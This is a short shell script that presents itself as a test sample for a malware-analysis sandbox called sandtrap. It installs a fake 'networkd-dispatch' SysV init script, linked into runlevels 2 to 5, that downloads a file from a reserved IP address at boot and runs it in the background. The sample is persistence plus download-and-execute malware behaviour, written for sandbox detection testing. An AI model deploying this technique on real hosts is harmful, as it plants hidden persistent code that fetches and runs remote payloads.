#!/bin/sh
# Persistence through a SysV init script in /etc/init.d with rc?.d start links.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
cat > /etc/init.d/networkd-dispatch <<RC
#!/bin/sh
### BEGIN INIT INFO
# Provides: networkd-dispatch
# Default-Start: 2 3 4 5
### END INIT INFO
wget -q -T 2 -t 1 -O /tmp/.nd http://198.51.100.23/nd && chmod +x /tmp/.nd && /tmp/.nd &
RC
chmod 755 /etc/init.d/networkd-dispatch
for l in 2 3 4 5; do mkdir -p /etc/rc$l.d; ln -sf ../init.d/networkd-dispatch /etc/rc$l.d/S99networkd-dispatch; done
ls -l /etc/rc2.d/S99networkd-dispatch
